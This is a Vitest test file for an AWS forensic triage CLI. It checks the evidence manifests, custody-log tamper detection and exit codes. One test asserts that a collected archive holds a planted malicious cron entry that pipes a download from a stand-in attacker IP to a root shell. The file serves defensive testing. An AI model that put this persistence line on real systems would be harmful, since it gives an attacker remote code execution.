import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readCustodyLog } from '#shared/evidence/custody-log';
import { Manifest } from '#shared/evidence/manifest';

const folder = mkdtempSync(join(tmpdir(), 'unlatch-cli-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

const unlatch = (...args: string[]) => {
  const environment = { ...process.env };
  delete environment.POWERTOOLS_LOG_LEVEL;
  const { status, stdout, stderr } = spawnSync(
    process.execPath,
    ['--import', './local/text-modules.ts', 'local/cli.ts', ...args],
    { encoding: 'utf8', env: environment, timeout: 60_000 },
  );
  return { status, stdout, stderr };
};

const written = (name: string, text: string): string => {
  const file = join(folder, name);
  writeFileSync(file, text);
  return file;
};

const out = join(folder, 'out');
let run: ReturnType<typeof unlatch>;
let evidence: string;
beforeAll(() => {
  run = unlatch('drill', '--out', out, '--json');
  evidence = join(out, readdirSync(out)[0] ?? '');
});

describe('drill', () => {
  it('ends with exit 0, a timeline for people, and an answer for programs', () => {
    expect(run.status).toBe(0);
    expect(run.stderr).toContain('KMS refused kms:ReEncryptFrom');
    expect(run.stderr).toMatch(/\d AWS calls in sequence from the refusal to SendCommand/);
    expect(JSON.parse(run.stdout)).toMatchObject({
      scenario: 'custom-key-denied',
      cases: [{ verdict: 'preserved', cause: 'key-policy-silent', callsInSequence: 6 }],
      deadLetters: 0,
    });
  });

  it('writes evidence whose hashes and sizes are those of the manifest', () => {
    const manifest = Manifest.parse(JSON.parse(readFileSync(join(evidence, 'manifest.json'), 'utf8')));
    const files = [...manifest.artefacts, ...manifest.documents];
    expect(files.map(({ path }) => path).sort()).toEqual([
      'custody.jsonl',
      'facts.json',
      'report.html',
      'report.json',
      'ssm-triage/i-0b1c2d3e4f5a69788/triage.tar.gz',
    ]);
    for (const { path, bytes, sha256 } of files) {
      const body = readFileSync(join(evidence, path));
      expect({ path, bytes: body.length, sha256: createHash('sha256').update(body).digest('hex') }).toEqual({
        path,
        bytes,
        sha256,
      });
    }
    expect(readCustodyLog(readFileSync(join(evidence, 'custody.jsonl'), 'utf8'))).toHaveLength(
      manifest.custody.entries,
    );
  });

  it('brings an archive in which the planted malware stands as it stood on the machine', () => {
    const archive = join(evidence, 'ssm-triage/i-0b1c2d3e4f5a69788/triage.tar.gz');
    const listed = spawnSync('tar', ['-tzf', archive], { encoding: 'utf8' }).stdout;
    expect(listed).toContain('files/etc/cron.d/refresh');
    expect(listed).toContain('files/root/.bash_history');
    const caseId = evidence.split('/').at(-1) ?? '';
    const cron = spawnSync('tar', ['-xzOf', archive, `${caseId}/files/etc/cron.d/refresh`], {
      encoding: 'utf8',
    }).stdout;
    expect(cron).toBe('*/10 * * * * root curl -s http://198.51.100.7/x | sh\n');
  });

  it('asks again what a case kept, and comes to the same', () => {
    const { diagnosis } = JSON.parse(readFileSync(join(evidence, 'report.json'), 'utf8'));
    const again = JSON.parse(unlatch('explain', join(evidence, 'facts.json'), '--json').stdout);
    const { cause, layer, statement } = diagnosis;
    expect(again).toMatchObject({ cause, layer, statement });
    expect(again.fixes.map(({ statement }: { statement: unknown }) => statement)).toEqual(
      diagnosis.fixes.map(({ statement }: { statement: unknown }) => statement),
    );
  });
});

describe('verify', () => {
  it('finds evidence intact as it was written, and says so', () => {
    expect(unlatch('verify', evidence)).toMatchObject({ status: 0, stderr: expect.stringContaining('intact') });
  });

  it('finds a byte that was changed, in the report or in the custody log', () => {
    const custody = join(evidence, 'custody.jsonl');
    const before = readFileSync(custody, 'utf8');
    writeFileSync(custody, before.replace('"result":"ok"', '"result":"no"'));
    const { status, stdout } = unlatch('verify', '--json', evidence);
    writeFileSync(custody, before);
    expect(status).toBe(1);
    expect(JSON.parse(stdout)).toMatchObject({
      intact: false,
      findings: [expect.stringContaining('custody.jsonl'), expect.stringMatching(/^line \d+ of the custody log/)],
    });
  });

  it('takes a folder without a manifest for bad input', () => {
    expect(unlatch('verify', folder)).toMatchObject({
      status: 2,
      stderr: expect.stringContaining('expected a manifest.json'),
    });
  });
});

describe('invoke', () => {
  it('runs one function with one event, and prints its answer', () => {
    const { status, stdout } = unlatch('invoke', 'remediate', 'events/by-hand/dry-run.json');
    expect(status).toBe(0);
    expect(JSON.parse(stdout)).toMatchObject({ verdict: 'planned', dryRun: true });
  });

  it('exits 1, with one clear line, where the function throws', () => {
    const file = written('not-an-event.json', '{"detail-type":"EBS Volume Notification"}');
    const { status, stdout, stderr } = unlatch('invoke', 'observe', file);
    expect({ status, stdout }).toEqual({ status: 1, stdout: '' });
    expect(stderr.trim().split('\n')).toEqual([expect.stringContaining('observe threw: `id`')]);
  });
});

describe('exit codes', () => {
  it('bad input ends with exit 2, and one clear line on standard error alone', () => {
    const { status, stdout, stderr } = unlatch('signal', join(folder, 'nowhere.json'));
    expect({ status, stdout }).toEqual({ status: 2, stdout: '' });
    expect(stderr.trim().split('\n')).toEqual([expect.stringMatching(/nowhere\.json: cannot be read/)]);
  });

  it('the answer no ends with exit 1', () => {
    expect(unlatch('explain', 'docs/explain/from-an-event.json')).toMatchObject({ status: 1, stdout: '' });
  });
});

it('a denial of 256 KB, with terminal escapes in it, is read, bounded, and printed harmlessly', () => {
  const event = JSON.parse(readFileSync('events/aws.kms/create-grant-not-allowed-by-key-policy.json', 'utf8'));
  event.detail.errorMessage += `\u001b[2J${'x'.repeat(256 * 1024)}`;
  const file = written('large.json', JSON.stringify(event));
  const { status, stdout } = unlatch('signal', '--json', file);
  expect(status).toBe(0);
  const [{ signal }] = JSON.parse(stdout);
  expect(signal).toMatchObject({ action: 'kms:CreateGrant', layer: 'key-policy' });
  expect(signal.message).toHaveLength(4_096);
  expect(stdout).not.toContain('\u001b');
});
